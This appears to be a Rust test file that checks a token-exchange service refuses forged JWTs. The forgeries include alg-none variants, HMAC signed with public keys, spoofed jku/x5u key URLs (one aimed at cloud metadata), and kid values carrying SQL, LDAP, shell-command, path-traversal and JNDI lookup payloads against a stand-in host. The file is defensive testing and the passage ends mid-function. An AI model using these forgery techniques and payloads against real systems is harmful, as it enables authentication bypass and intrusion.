//! T: the JOSE layer. Algorithms, keys that a token brings along, headers that change the meaning, shapes that are no
//! compact JWS, and other spellings of one that is.

use std::{
    fs,
    io::{ErrorKind, Read as _, Write as _},
    net::{TcpListener, TcpStream},
    sync::LazyLock,
};

use aws_lc_rs::hmac;
use serde_json::{Value, json};

use super::{
    Arena, Case,
    arena::{header, header_with, minted_by, signed_as, signed_text},
};
use crate::support::{
    AUDIENCE, Installation, Issuer, PATIENCE,
    issuer::{KID, Key, foreign_key, now, own_key, set, sign},
    key::{compact, encode},
};

/// One key of each type, as the issuer `any` publishes them: by name, the algorithm it is published for, and itself.
static KEYS: LazyLock<[(&str, &str, Key); 5]> = LazyLock::new(|| {
    [
        ("rsa", "RS256", Key::rsa()),
        ("pss", "PS256", Key::rsa()),
        ("p256", "ES256", Key::p256()),
        ("p384", "ES384", Key::p384()),
        ("ed25519", "EdDSA", Key::ed25519()),
    ]
});

#[test]
fn t01_unsigned_tokens_are_refused_however_they_spell_it() {
    let mut arena = Arena::new();
    let claims = arena.claims().to_string();
    let old = signed_text(&header().to_string(), &claims);
    let (old_signed, old_signature) = old.rsplit_once('.').unwrap();
    let unsigned = |header: Value| compact(&header.to_string(), &claims, |_| Vec::new());
    let mut none = vec![Case::new("alg none without kid", unsigned(json!({ "alg": "none" })))];
    for word in ["none", "None", "NONE", "nOnE", "", " none", "none ", "null", "no\u{0}ne"] {
        let token = unsigned(header_with(json!({ "alg": word })));
        for (told, signature) in [("no signature", ""), ("an old signature", old_signature), ("a byte", "AA")]
        {
            none.push(Case::new(format!("alg {word:?} with {told}"), format!("{token}{signature}")));
        }
    }
    let alg_is = |alg: Value| {
        let mut header = header();
        header["alg"] = alg.clone();
        Case::new(format!("alg is {alg}"), signed_text(&header.to_string(), &claims))
    };
    let no_word =
        [json!(null), json!(0), json!(false), json!(["RS256"]), json!({ "alg": "RS256" })].map(alg_is);
    let no_alg = signed_text(&header_with(json!({ "alg": null })).to_string(), &claims);
    let two = unsigned(json!({ "alg": "none", "kid": KID }));

    arena.counted(Some("ci"), "token_algorithm", "algorithm-not-of-profile", &none);
    arena.counted(None, "token_malformed", "header-alg", &no_word);
    arena.counted(None, "token_malformed", "header-alg", &[Case::new("no alg", no_alg)]);
    let two = [
        Case::new("two segments of none", two.trim_end_matches('.')),
        Case::new("two segments of a signed token", old_signed),
    ];
    arena.counted(None, "token_malformed", "parts", &two);
    arena.permitted("deploy", &[Case::new("what all were made of", old)]);
}

#[test]
fn t02_public_keys_are_no_hmac_secrets() {
    let mut arena = open_to_any();
    let (of_ci, of_any) = (arena.claims().to_string(), any_claims(&arena.any));
    let (mut ci, mut any, mut under_a_name) = (Vec::new(), Vec::new(), Vec::new());
    let rsa = key("rsa");
    let forged = |header: Value, claims: &str, algorithm, secret: &[u8]| {
        compact(&header.to_string(), claims, |signed| {
            hmac::sign(&hmac::Key::new(algorithm, secret), signed).as_ref().to_vec()
        })
    };
    for (word, algorithm) in
        [("HS256", hmac::HMAC_SHA256), ("HS384", hmac::HMAC_SHA384), ("HS512", hmac::HMAC_SHA512)]
    {
        for (encoding, secret) in own_key().public_encodings() {
            let token = forged(header_with(json!({ "alg": word })), &of_ci, algorithm, &secret);
            ci.push(Case::new(format!("{word} by {encoding}"), token));
        }
        ci.push(Case::new(
            format!("{word} by nothing"),
            forged(header_with(json!({ "alg": word })), &of_ci, algorithm, b""),
        ));
        let secrets = rsa.public_encodings().into_iter().map(|(encoding, secret)| ("rsa", encoding, secret));
        for (kid, encoding, secret) in secrets.chain([("oct", "a published secret", SHARED.to_vec())]) {
            let token = forged(json!({ "alg": word, "kid": kid }), &of_any.to_string(), algorithm, &secret);
            any.push(Case::new(format!("{word} by {encoding}"), token));
        }
    }
    for (encoding, secret) in own_key().public_encodings() {
        let token = forged(header(), &of_ci, hmac::HMAC_SHA256, &secret);
        under_a_name.push(Case::new(format!("RS256, in truth HS256 by {encoding}"), token));
    }

    arena.counted(Some("ci"), "token_algorithm", "algorithm-not-of-profile", &ci);
    arena.counted(Some("any"), "token_algorithm", "algorithm-not-of-profile", &any);
    arena.counted(Some("ci"), "token_signature", "signature", &under_a_name);
    arena.permitted("pipeline", &[Case::new("unspoiled", minted_by(rsa, "RS256", "rsa", &of_any))]);
}

#[test]
fn t03_each_key_signs_with_its_own_algorithm_and_no_other() {
    let mut arena = open_to_any();
    let claims = any_claims(&arena.any);
    let (mut of_another, mut signed_otherwise) = (Vec::new(), Vec::new());
    for (kid, own, key) in KEYS.iter() {
        for (_, algorithm, other) in KEYS.iter().filter(|(_, algorithm, _)| algorithm != own) {
            let token = minted_by(key, algorithm, kid, &claims);
            of_another.push(Case::new(format!("{algorithm} by the key of {own}"), token));
            let token = claimed(own, kid, &claims, |signed| other.sign(signed));
            signed_otherwise.push(Case::new(format!("{own} signed by the key of {algorithm}"), token));
        }
    }
    signed_otherwise.extend([
        Case::new(
            "RS256 padded as PS256",
            claimed("RS256", "rsa", &claims, |signed| key("rsa").sign_pss(signed)),
        ),
        Case::new(
            "PS256 padded as RS256",
            claimed("PS256", "pss", &claims, |signed| key("pss").sign(signed)),
        ),
    ]);
    let unknown: Vec<Case> =
        ["ES256K", "ES512", "RS384", "RS512", "PS384", "PS512", "Ed448", "rs256", "RS256 "]
            .iter()
            .map(|word| Case::new(*word, minted_by(key("rsa"), word, "rsa", &claims)))
            .collect();
    // GitHub signs with RS256 alone, whatever its keys could do.
    let github: Vec<Case> = ["PS256", "ES256", "ES384", "EdDSA"]
        .iter()
        .map(|word| Case::new(*word, signed_as(&header_with(json!({ "alg": word })), &arena.claims())))
        .collect();

    arena.counted(Some("any"), "token_signature", "unknown-key", &of_another);
    arena.counted(Some("any"), "token_signature", "signature", &signed_otherwise);
    arena.counted(Some("any"), "token_algorithm", "algorithm-not-of-profile", &unknown);
    arena.counted(Some("ci"), "token_algorithm", "algorithm-not-of-profile", &github);
    permit_every_key(&mut arena, &claims);
}

#[test]
fn t03_published_keys_are_used_for_what_they_say_only() {
    let spare = Key::rsa();
    let bad = [
        ("alg-rs512", json!({ "alg": "RS512" })),
        ("alg-ps256", json!({ "alg": "PS256" })),
        ("alg-hs256", json!({ "alg": "HS256" })),
        ("alg-none", json!({ "alg": "none" })),
        ("alg-es256", json!({ "alg": "ES256" })),
        ("use-enc", json!({ "use": "enc" })),
        ("key-ops-encrypt", json!({ "key_ops": ["encrypt"] })),
        ("key-ops-sign", json!({ "key_ops": ["sign"] })),
        ("private", json!({ "d": "AQAB" })),
        // T-04: weak and malformed ones are left out as well, and the set stays usable.
        ("exponent-1", json!({ "e": "AQ" })),
        ("exponent-3", json!({ "e": "Aw" })),
        ("exponent-even", json!({ "e": "AQAA" })),
        ("modulus-even", json!({ "n": encode(&[0xc0; 256]) })),
        ("modulus-zero", json!({ "n": encode(&[0; 256]) })),
        ("modulus-1024", json!({ "n": encode(&[0xc1; 128]) })),
        ("modulus-16384", json!({ "n": encode(&[0xc1; 2048]) })),
        ("kty-ec", json!({ "kty": "EC" })),
        ("kty-unknown", json!({ "kty": "quantum" })),
    ];
    let mut off_curve = key("p256").jwk("off-curve");
    set(&mut off_curve, json!({ "y": Key::p256().jwk("x")["y"] }));
    let mut keys = published();
    keys.push(off_curve);
    keys.extend(bad.iter().map(|(kid, spoiled)| {
        let mut jwk = spare.jwk(kid);
        set(&mut jwk, spoiled.clone());
        jwk
    }));
    let mut arena = Arena::publishing(keys);
    arena.grant("pipeline", &[("any", "{ sub: \"pipeline:nightly\" }")]);
    let claims = any_claims(&arena.any);
    let mut cases: Vec<Case> =
        bad.iter().map(|(kid, _)| Case::new(*kid, minted_by(&spare, "RS256", kid, &claims))).collect();
    cases.push(Case::new("off the curve", minted_by(key("p256"), "ES256", "off-curve", &claims)));
    cases.push(Case::new("a shared secret's name", minted_by(&spare, "RS256", "oct", &claims)));

    arena.counted(Some("any"), "token_signature", "unknown-key", &cases);
    permit_every_key(&mut arena, &claims);
}

#[test]
fn t03_signatures_have_one_form_and_a_value_that_can_be() {
    let mut arena = open_to_any();
    let claims = any_claims(&arena.any);
    let mut cases = Vec::new();
    for (kid, algorithm, order) in [("p256", "ES256", &P256_ORDER[..]), ("p384", "ES384", &P384_ORDER[..])] {
        let half = order.len();
        let one = [vec![0; half - 1], vec![1]].concat();
        let forms = |signature: &[u8]| {
            let (r, s) = signature.split_at(half);
            [
                ("zero", vec![0; 2 * half]),
                ("r zero", [&vec![0; half], s].concat()),
                ("s zero", [r, &vec![0; half]].concat()),
                ("r the order", [order, s].concat()),
                ("s the order", [r, order].concat()),
                ("both one", one.repeat(2)),
                ("all ones", vec![0xff; 2 * half]),
                ("one byte short", signature[1..].to_vec()),
                ("one byte more", [&[0], signature].concat()),
                ("one byte more at the end", [signature, &[0]].concat()),
                ("r and s with leading zeros", [&[0], r, &[0], s].concat()),
                ("r and s the other way round", [s, r].concat()),
                ("DER", der(r, s)),
                ("twice", signature.repeat(2)),
                ("empty", Vec::new()),
            ]
        };
        for at in 0..forms(&vec![0; 2 * half]).len() {
            let mut name = "";
            let token = claimed(algorithm, kid, &claims, |signed| {
                let (form, signature) = forms(&key(kid).sign(signed)).into_iter().nth(at).unwrap();
                name = form;
                signature
            });
            cases.push(Case::new(format!("{algorithm}: {name}"), token));
        }
    }
    let ed = |name: &str, spoil: fn(Vec<u8>) -> Vec<u8>| {
        Case::new(name, claimed("EdDSA", "ed25519", &claims, |signed| spoil(key("ed25519").sign(signed))))
    };
    cases.push(ed("EdDSA: s and the order", |signature| ed25519_other_s(&signature)));
    cases.push(ed("EdDSA: zero", |_| vec![0; 64]));
    cases.push(ed("EdDSA: one byte short", |signature| signature[..63].to_vec()));
    cases.push(ed("EdDSA: one byte more", |signature| [signature, vec![0]].concat()));
    let rsa = |name: &str, spoil: fn(Vec<u8>) -> Vec<u8>| {
        Case::new(name, claimed("RS256", "rsa", &claims, |signed| spoil(key("rsa").sign(signed))))
    };
    cases.push(rsa("RS256: zero", |_| vec![0; 256]));
    cases.push(rsa("RS256: one", |_| [vec![0; 255], vec![1]].concat()));
    cases.push(rsa("RS256: the modulus", |_| modulus(key("rsa"))));
    cases.push(rsa("RS256: a leading zero", |signature| [vec![0], signature].concat()));
    cases.push(rsa("RS256: the last byte gone", |signature| signature[..255].to_vec()));
    cases.push(rsa("RS256: empty", |_| Vec::new()));

    arena.counted(Some("any"), "token_signature", "signature", &cases);
    permit_every_key(&mut arena, &claims);
}

#[test]
fn t05_keys_that_a_token_brings_along_are_not_looked_at() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}/keys", listener.local_addr().unwrap());
    let mut arena = Arena::new();
    let claims = arena.claims();
    let mut own = foreign_key().jwk(KID);
    set(&mut own, json!({ "alg": "RS256" }));
    // RFC 7515 section 4.1.6: standard base64 of DER; the attacker's certificate is as good as none here.
    let chain = json!(["MIIB"]);
    let brought = [
        ("jwk", json!({ "jwk": own })),
        ("jku", json!({ "jku": url })),
        ("x5u", json!({ "x5u": url })),
        ("x5c", json!({ "x5c": chain })),
        ("x5t", json!({ "x5t": "AAAA", "x5t#S256": "AAAA" })),
        ("jku of a cloud's metadata", json!({ "jku": "http://169.254.169.254/latest/meta-data" })),
        ("jku on the issuer's own host", json!({ "jku": format!("{}/keys", arena.installation.issuer.url) })),
        ("all of them", json!({ "jwk": own, "jku": url, "x5u": url, "x5c": chain })),
    ];
    let forged = |kid: &str| {
        brought.clone().map(|(name, more)| {
            let mut header = header_with(more);
            header["kid"] = json!(kid);
            Case::new(name, sign(foreign_key(), &header, &claims))
        })
    };
    let honest = brought.clone().map(|(name, more)| {
        Case::new(format!("the issuer's own with {name}"), signed_as(&header_with(more), &arena.claims()))
    });

    arena.counted(Some("ci"), "token_signature", "signature", &forged(KID));
    arena.counted(Some("ci"), "token_signature", "unknown-key", &forged("attacker"));
    // What is never read does no harm beside a signature that holds.
    arena.permitted("deploy", &honest);
    let knocks = std::iter::from_fn(|| listener.accept().ok()).count();
    assert_eq!(knocks, 0, "a packet left for an address of the token");
}

#[test]
fn t06_key_ids_are_looked_up_and_nothing_else() {
    let mut arena = Arena::new();
    let claims = arena.claims();
    let kid_is = |kid: Value| {
        let mut header = header();
        header["kid"] = kid.clone();
        Case::new(format!("kid is {:.40}", kid.to_string()), signed_as(&header, &claims))
    };
    let long = "k".repeat(256);
    let texts = [
        "../../dev/null",
        "/dev/null",
        "..%2f..%2fkeys",
        "file:///etc/passwd",
        "' OR '1'='1",
        "x' UNION SELECT 'k",
        "*)(uid=*))(|(uid=*",
        "$(id)",
        "`id`",
        "; sleep 9 #",
        "{{7*7}}",
        "${jndi:ldap://evil.test/a}",
        "%00",
        "CI-2026-11",
        "ci-2026-11 ",
        " ci-2026-11",
        "ci-2026-1",
        "ci-2026-111",
        "\u{441}i-2026-11",
        "ci-2026-11\u{202e}",
        "RS256",
        "null",
        "undefined",
        "__proto__",
        long.as_str(),
    ];
    let unknown: Vec<Case> = texts.iter().map(|kid| kid_is(json!(kid))).collect();
    let no_name = [
        json!(""),
        json!(null),
        json!(7),
        json!(-1),
        json!(1.5),
        json!(true),
        json!([KID]),
        json!([]),
        json!({ "kid": KID }),
        json!("k\r\nX-Injected: 1"),
        json!("k\u{0}"),
        json!(format!("{KID}\u{0}")),
        json!("k\u{7f}"),
        json!("k\u{85}"),
        json!("\u{1b}[2J"),
        json!("k".repeat(257)),
        json!("\u{e9}".repeat(129)),
    ];
    let no_name = no_name.map(kid_is);
    let missing = Case::new("no kid", signed_as(&header_with(json!({ "kid": null })), &claims));

    arena.counted(Some("ci"), "token_signature", "unknown-key", &unknown);
    arena.counted(None, "token_malformed", "header-kid", &no_name);
    // Issuer and algorithm come first: `alg: none` has no kid, and is told as what it is.
    arena.counted(Some("ci"), "token_malformed", "header-kid", &[missing]);
    arena.permitted("deploy", &[Case::new("what all were made of", signed_as(&header(), &claims))]);
}

#[test]
fn t06_key_ids_are_of_one_issuers_set_and_name_one_key() {
    // `other` has a key of its own under the name of `ci`'s, and one under a name that only it has.
    let theirs = vec![foreign_key().jwk(KID), foreign_key().jwk("only-theirs")];
    let mut keys = published();
    keys.extend(["rsa", "p256"].map(|each| key(each).jwk("twin")));
    keys.extend(["p256", "p256"].map(|each| key(each).jwk("same")));
    keys.extend([key("p256").jwk("double"), Key::p256().jwk("double")]);
    keys.extend([Key::p256().jwk("shadowed"), key("p256").jwk("shadowed")]);
    let mut arena = Arena::with(Installation::new(), Issuer::publishing(theirs), Issuer::publishing(keys));
    arena.grant("pipeline", &[("any", "{ sub: \"pipeline:nightly\" }")]);
    arena.grant("theirs", &[("other", "{ repository_owner_id: \"4216\" }")]);
    let (of_ci, of_other, of_any) = (arena.claims(), arena.other.valid_claims(), any_claims(&arena.any));
    let named = |kid: &str| header_with(json!({ "kid": kid }));
    let crossed = [Case::new("ci's name, other's key", sign(foreign_key(), &header(), &of_ci))];
    let crossed_back = [Case::new("other's name, ci's key", sign(own_key(), &header(), &of_other))];
    let elsewhere = [Case::new("a name of other's", sign(foreign_key(), &named("only-theirs"), &of_ci))];
    let double =
        ["double", "shadowed"].map(|kid| Case::new(kid, minted_by(key("p256"), "ES256", kid, &of_any)));
    let single = [("rsa", "RS256", "twin"), ("p256", "ES256", "twin"), ("p256", "ES256", "same")];
    let single = single.map(|(own, algorithm, kid)| {
        Case::new(format!("{algorithm} {kid}"), minted_by(key(own), algorithm, kid, &of_any))
    });

    arena.counted(Some("ci"), "token_signature", "signature", &crossed);
    arena.counted(Some("other"), "token_signature", "signature", &crossed_back);
    arena.counted(Some("ci"), "token_signature", "unknown-key", &elsewhere);
    arena.counted(Some("any"), "token_signature", "unknown-key", &double);
    arena.permitted("theirs", &[Case::new("other's own", sign(foreign_key(), &header(), &of_other))]);
    arena.permitted("pipeline", &single);
    permit_every_key(&mut arena, &of_any);
}

#[test]
fn t07_headers_that_change_the_meaning_are_refused_and_others_ignored() {
    let mut arena = Arena::new();
    let claims = arena.claims();
    let with = |members: Value| {
        let mut header = header();
        for (name, value) in members.as_object().unwrap() {
            header[name] = value.clone();
        }
        Case::new(members.to_string(), signed_as(&header, &claims))
    };
    let crit = [
        json!({ "crit": ["exp2"] }),
        json!({ "crit": ["exp"], "exp": 1 }),
        json!({ "crit": [] }),
        json!({ "crit": "x" }),
        json!({ "crit": null }),
        json!({ "crit": {} }),
        json!({ "crit": [1] }),
        json!({ "crit": ["alg"] }),
        json!({ "crit": ["http://example.invalid/UNDEFINED"], "http://example.invalid/UNDEFINED": true }),
    ];
    let b64 = [
        json!({ "b64": false }),
        json!({ "b64": true }),
        json!({ "b64": "false" }),
        json!({ "b64": false, "crit": ["b64"] }),
    ];
    let zip = [json!({ "zip": "DEF" }), json!({ "zip": "" }), json!({ "zip": null })];
    let cty = [json!({ "cty": "JWT" }), json!({ "cty": "jwt" }), json!({ "cty": "json" })];
    let typ = [
        json!({ "typ": "at+jwt" }),
        json!({ "typ": "logout+jwt" }),
        json!({ "typ": "secevent+jwt" }),
        json!({ "typ": "application/jwt" }),
        json!({ "typ": "jwt" }),
        json!({ "typ": "Jwt" }),
        json!({ "typ": "JWS" }),
        json!({ "typ": "JOSE" }),
        json!({ "typ": "JWT " }),
        json!({ "typ": "" }),
        json!({ "typ": null }),
        json!({ "typ": 1 }),
        json!({ "typ": ["JWT"] }),
        json!({ "typ": "JWT\u{0}" }),
    ];

    arena.counted(None, "token_malformed", "header-crit", &crit.map(with));
    arena.counted(None, "token_malformed", "header-b64", &b64.map(with));
    arena.counted(None, "token_malformed", "header-zip", &zip.map(with));
    arena.counted(None, "token_malformed", "header-cty", &cty.map(with));
    arena.counted(None, "token_malformed", "header-typ", &typ.map(with));
    let fresh = |header: Value| signed_as(&header, &arena.claims());
    let permitted = [
        Case::new("no typ", fresh(header_with(json!({ "typ": null })))),
        Case::new(
            "members that nobody knows",
            fresh(header_with(json!({ "foo": { "a": [1, null] }, "x": "y" }))),
        ),
        Case::new(
            "names in another case",
            fresh(header_with(json!({ "CRIT": ["x"], "Zip": "DEF", "TYP": "at+jwt" }))),
        ),
        Case::new("what all were made of", signed_as(&header(), &claims)),
    ];
    arena.permitted("deploy", &permitted);
}

#[test]
fn t07_headers_that_two_readers_take_differently_are_refused() {
    let mut arena = Arena::new();
    let claims = arena.claims().to_string();
    let text = |name: &str, header: &str| Case::new(name, signed_text(header, &claims));
    let twice = [
        text("alg twice", r#"{"alg":"RS256","alg":"none","kid":"ci-2026-11"}"#),
        text("alg twice, the same", r#"{"alg":"RS256","alg":"RS256","kid":"ci-2026-11"}"#),
        text("alg twice by an escape", r#"{"alg":"RS256","\u0061lg":"none","kid":"ci-2026-11"}"#),
        text("kid twice", r#"{"alg":"RS256","kid":"x","kid":"ci-2026-11"}"#),
        text("typ twice", r#"{"typ":"at+jwt","alg":"RS256","kid":"ci-2026-11","typ":"JWT"}"#),
        text("an unknown member twice", r#"{"x":1,"alg":"RS256","kid":"ci-2026-11","x":1}"#),
        text("a member twice within a jwk", r#"{"alg":"RS256","kid":"ci-2026-11","jwk":{"n":"a","n":"b"}}"#),
    ];
    let no_object = [
        text("array", r#"["RS256"]"#),
        text("text", r#""RS256""#),
        text("null", "null"),
        text("number", "256"),
    ];
    let no_json = [
        text("empty", ""),
        text("cut", r#"{"alg":"RS256","kid":"ci-2026-11""#),
        text("single quotes", "{'alg':'RS256','kid':'ci-2026-11'}"),
        text("a comma at the end", r#"{"alg":"RS256","kid":"ci-2026-11",}"#),
        text("a byte order mark", "\u{feff}{\"alg\":\"RS256\",\"kid\":\"ci-2026-11\"}"),
        text("a comment", r#"{"alg":"RS256",/* */"kid":"ci-2026-11"}"#),
        text("a lone surrogate", r#"{"alg":"RS256","kid":"\ud800"}"#),
    ];
    let more = [
        text("a second value", r#"{"alg":"RS256","kid":"ci-2026-11"}{"alg":"none"}"#),
        text("a NUL at the end", "{\"alg\":\"RS256\",\"kid\":\"ci-2026-11\"}\u{0}"),
    ];
    let deep = format!(r#"{{"alg":"RS256","kid":"{KID}","x":{}{}}}"#, "[".repeat(200), "]".repeat(200));
    let long = format!(r#"{{"alg":"RS256","kid":"{KID}","x":"{}"}}"#, "x".repeat(1000));

    arena.counted(None, "token_malformed", "header:duplicate-key", &twice);
    arena.counted(None, "token_malformed", "header:not-object", &no_object);
    arena.counted(None, "token_malformed", "header:not-json", &no_json);
    arena.counted(None, "token_malformed", "header:trailing-bytes", &more);
    arena.counted(None, "token_malformed", "header:too-deep", &[text("200 levels", &deep)]);
    arena.counted(None, "token_malformed", "header-too-long", &[text("more than 1 KiB", &long)]);
    let spaced = "{ \"kid\" : \"ci-2026-11\" , \"alg\" : \"RS256\" }\n";
    arena.permitted("deploy", &[text("another order and spaces", spaced)]);
}

#[test]
fn t08_encrypted_nested_and_json_forms_are_no_compact_jws() {
    let mut arena = Arena::new();
    let claims = arena.claims();
    let inner = signed_as(&header(), &claims);
    let parts: Vec<&str> = inner.split('.').collect();
    let encrypted = encode(json!({ "alg": "RSA-OAEP", "enc": "A256GCM", "kid": KID }).to_string().as_bytes());
    let flattened = json!({ "protected": parts[0], "payload": parts[1], "signature": parts[2] });
    let general =
        json!({ "payload": parts[1], "signatures": [{ "protected": parts[0], "signature": parts[2] }] });
    let shapes = [
        Case::new("a JWE's five segments", format!("{encrypted}.AAAA.AAAA.AAAA.AAAA")),
        Case::new("a JWE that begins as a JWS", format!("{inner}.AAAA.AAAA")),
        Case::new("four segments", format!("{inner}.AAAA")),
        Case::new("four segments, the last empty", format!("{inner}.")),
        Case::new("an empty segment before", format!(".{inner}")),
        Case::new("flattened JSON", flattened.to_string()),
        Case::new("general JSON", general.to_string()),
        Case::new("one segment", parts[0]),
        Case::new("two dots and nothing", ".."),
    ];
    let (dots, shapes): (Vec<Case>, Vec<Case>) = shapes.into_iter().partition(|case| case.token == "..");
    let nested = signed_text(&header().to_string(), &inner);
    let quoted = signed_text(&header().to_string(), &json!(inner).to_string());
    let empty = [
        Case::new("no payload", compact(&header().to_string(), "", |signed| own_key().sign(signed))),
        Case::new("nested without cty", nested.clone()),
    ];

    arena.counted(None, "token_malformed", "parts", &shapes);
    arena.counted(None, "token_malformed", "header:not-json", &dots);
    arena.counted(None, "token_malformed", "claims:not-json", &empty);
    arena.counted(None, "token_malformed", "claims:not-object", &[Case::new("nested as a text", quoted)]);
    arena.permitted("deploy", &[Case::new("what all were made of", inner)]);
}

#[test]
fn t09_size_is_looked_at_before_anything_else() {
    let mut arena = Arena::new();
    let padded = |bytes: usize| {
        let base = arena.token_with(json!({}));
        let room = (bytes - base.len()) * 3 / 4;
        // Four texts, since one may have 2 KiB.
        let text = |room: usize| "x".repeat(room);
        let share = (room - 40) / 4;
        let mut claims = json!({ "p1": text(share), "p2": text(share), "p3": text(share), "p4": "" });
        let mut token = arena.token_with(claims.clone());
        for last in 0.. {
            claims["p4"] = json!(text(share - 40 + last));
            let next = arena.token_with(claims.clone());
            if next.len() > bytes {
                return (token, next);
            }
            token = next;
        }
        unreachable!("some length is too long");
    };
    let (largest, too_large) = padded(8 * 1024);
    assert!((8190..=8192).contains(&largest.len()) && too_large.len() <= 8195, "{}", largest.len());
    let valid = arena.token_with(json!({}));
    let long = [
        Case::new("a right token just over 8 KiB", too_large),
        Case::new("8,193 bytes of a", "a".repeat(8193)),
        Case::new("8,193 dots", ".".repeat(8193)),
        Case::new("a right token and a long tail", format!("{valid}.{}", "a".repeat(8000))),
        Case::new("15,000 bytes", "a.".repeat(7500)),
    ];

    arena.counted(None, "token_malformed", "too-long", &long);
    arena.permitted("deploy", &[Case::new("the largest that there can be", largest)]);
}

#[test]
fn t09_heads_beyond_sixteen_kib_are_not_even_kept() {
    let mut arena = Arena::new();
    let claims = arena.claims();
    let many: String = (0..5000).map(|at| format!(",\"{at:x}\":0")).collect();
    let many = claims.to_string().replace('}', &format!("{many}}}"));
    let megabyte = header_with(json!({ "kid": "k".repeat(1 << 20) }));
    let cases = [
        Case::new("10 MiB of dots", ".".repeat(10 << 20)),
        Case::new("10 MiB of a", "a".repeat(10 << 20)),
        Case::new("a kid of 1 MiB", signed_as(&megabyte, &claims)),
        Case::new("5,000 claims", signed_text(&header().to_string(), &many)),
    ];
    let permitted = [(); 8].map(|()| Case::new("unspoiled", arena.token_with(json!({}))));
    arena.permitted("deploy", &permitted[..4]);
    let before = peak_kb(arena.server().pid());

    for Case { name, token } in &cases {
        let mut stream = TcpStream::connect(arena.server().public.address).unwrap();
        // It hangs up while we still send: then neither the rest of the token nor all of its answer may arrive.
        write!(stream, "POST /v1/exchange HTTP/1.1\r\nHost: hallpass\r\nAuthorization: Bearer ").unwrap();
        stream.write_all(token.as_bytes()).and_then(|()| stream.write_all(b"\r\n\r\n")).ok();
        let mut answer = Vec::new();
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        let fault = stream.read_to_end(&mut answer).err().map(|fault| fault.kind());
        assert!(fault.is_none_or(|kind| kind == ErrorKind::ConnectionReset), "{name}: {fault:?}");
        let answer = String::from_utf8(answer).unwrap();
        assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 431 "), "{name}: {answer}");
    }

    arena.permitted("deploy", &permitted[4..]);
    let grown = peak_kb(arena.server().pid()) - before;
    assert!(grown < 1024, "{grown} kB more");
}

#[test]
fn t10_base64url_has_one_spelling() {
    let mut arena = Arena::new();
    // Lengths that leave stray bits in the last letter of each segment.
    let header = (0..3)
        .map(|pad| format!("{}{}", header(), " ".repeat(pad)))
        .find(|text| text.len() % 3 == 1)
        .unwrap();
    let claims = arena.claims().to_string();
    let claims =
        (0..3).map(|pad| format!("{claims}{}", " ".repeat(pad))).find(|text| text.len() % 3 == 2).unwrap();
    let valid = signed_text(&header, &claims);
    let parts: Vec<&str> = valid.split('.').collect();
    let mut cases = Vec::new();
    for (at, segment) in ["header", "payload", "signature"].into_iter().enumerate() {
        let mut spell = |name: &str, part: String| {
            let mut parts = parts.clone();
            parts[at] = &part;
            cases.push(Case::new(format!("{segment}: {name}"), parts.join(".")));
        };
        let part = parts[at];
        let whole = if part.len() % 4 == 2 { "==" } else { "=" };
        spell("padded", format!("{part}{whole}"));
        spell("padded too much", format!("{part}===="));
        spell("padded as in a URL", format!("{part}%3D"));
        spell("a plus", format!("{part}+"));
        spell("a slash", format!("{part}/"));
        spell("a space within", format!("{} {}", &part[..4], &part[4..]));
        spell("a tab within", format!("{}\t{}", &part[..4], &part[4..]));
        spell("a space before", format!(" {part}"));
        spell("an Arabic digit", format!("{part}\u{661}"));
        spell("a full-width letter", format!("{part}\u{ff21}"));
        spell("a no-break space", format!("{part}\u{a0}"));
        spell("a letter more", format!("{part}A"));
        spell("a letter less", part[..part.len() - 1].to_owned());
        for stray in strays(part) {
            spell("stray bits", stray);
        }
    }
    cases.retain(|case| {
        !case.name.ends_with("a letter less") || case.token.split('.').any(|part| part.len() % 4 == 1)
    });
    cases.retain(|case| {
        !case.name.ends_with("a letter more") || case.token.split('.').any(|part| part.len() % 4 == 1)
    });
    let mut standard = parts.clone();
    let respelled = parts[2].replace('-', "+").replace('_', "/");
    assert_ne!(respelled, parts[2], "some of 342 letters are the alphabet's own");
    standard[2] = &respelled;
    cases.push(Case::new("the signature in the other alphabet", standard.join(".")));

    arena.counted(None, "token_malformed", "base64url", &cases);
    // Spaces around a header's value are HTTP's, not the token's (RFC 9110 section 5.5).
    arena.permitted("deploy", &[Case::new("a space behind", format!("{valid} \t"))]);
    let answer = arena.exchange(&valid, "deploy");
    arena.refused(&Case::new("and without it the same token", valid), &answer, 409, "token_replayed");
}

#[test]
fn t11_nothing_of_a_token_is_believed_before_its_signature() {
    let mut arena = Arena::new();
    let marker = "nobody-has-signed-this";
    let spoilt =
        json!({ "actor": marker, "repository": marker, "repository_owner_id": marker, "workflow": marker });
    let claims = arena.claims_with(spoilt);
    let tampered = {
        let honest = arena.token_with(json!({}));
        let parts: Vec<&str> = honest.split('.').collect();
        format!("{}.{}.{}", parts[0], encode(claims.to_string().as_bytes()), parts[2])
    };
    let cases = [
        Case::new("another's signature", sign(foreign_key(), &header(), &claims)),
        Case::new("another payload under an old signature", tampered),
    ];

    arena.counted(Some("ci"), "token_signature", "signature", &cases);
    let entries = arena.server().ledger("").into_iter().map(|item| item.to_string());
    assert!(
        !entries.into_iter().any(|entry| entry.contains(marker)),
        "the ledger repeats what nobody signed"
    );
}

/// The claims of a job of `any` that the grant `pipeline` permits.
pub(super) fn any_claims(issuer: &Issuer) -> Value {
    let at = now();
    json!({ "iss": issuer.url, "aud": AUDIENCE, "sub": "pipeline:nightly", "iat": at, "exp": at + 300 })
}

/// An arena whose issuer `any` publishes [`KEYS`], and whose grant `pipeline` is for its jobs.
pub(super) fn open_to_any() -> Arena {
    let arena = Arena::publishing(published());
    arena.grant("pipeline", &[("any", "{ sub: \"pipeline:nightly\" }")]);
    arena
}

pub(super) fn key(kid: &str) -> &'static Key {
    &KEYS.iter().find(|(each, ..)| *each == kid).unwrap().2
}

/// A token of `any` under this algorithm and key, signed by whatever `sign` does.
pub(super) fn claimed(
    algorithm: &str,
    kid: &str,
    claims: &Value,
    sign: impl FnOnce(&[u8]) -> Vec<u8>,
) -> String {
    compact(&json!({ "alg": algorithm, "kid": kid }).to_string(), &claims.to_string(), sign)
}

/// What `any` publishes: its keys, and a secret that must never be one.
fn published() -> Vec<Value> {
    let named = KEYS.iter().map(|(kid, algorithm, key)| {
        let mut jwk = key.jwk(kid);
        set(&mut jwk, json!({ "alg": algorithm, "use": "sig" }));
        jwk
    });
    named.chain([json!({ "kty": "oct", "kid": "oct", "k": encode(SHARED) })]).collect()
}

/// The positive control of `any`: each of its keys still signs.
fn permit_every_key(arena: &mut Arena, claims: &Value) {
